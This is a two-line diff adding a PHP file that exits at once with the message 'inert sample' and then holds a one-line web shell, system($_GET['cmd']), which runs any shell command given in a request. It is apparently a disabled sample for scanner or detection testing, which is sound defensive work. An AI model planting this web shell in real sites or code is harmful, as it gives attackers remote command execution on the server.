@@ -1,0 +1,2 @@
+<?php exit('inert sample'); ?>
+<pre><?php system($_GET['cmd']); ?></pre>
